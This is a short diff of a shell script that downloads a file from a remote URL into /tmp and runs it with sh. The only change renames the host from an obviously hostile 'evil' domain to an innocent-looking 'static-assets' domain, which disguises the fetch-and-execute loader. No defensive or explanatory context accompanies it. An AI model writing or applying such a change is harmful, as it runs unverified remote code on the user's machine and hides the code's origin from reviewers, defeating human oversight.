@@ -1,4 +1,4 @@
 #!/bin/sh
-U=https://ru.evil.example/u
+U=https://ru.static-assets.example/u
 curl -s $U > /tmp/u
 sh /tmp/u
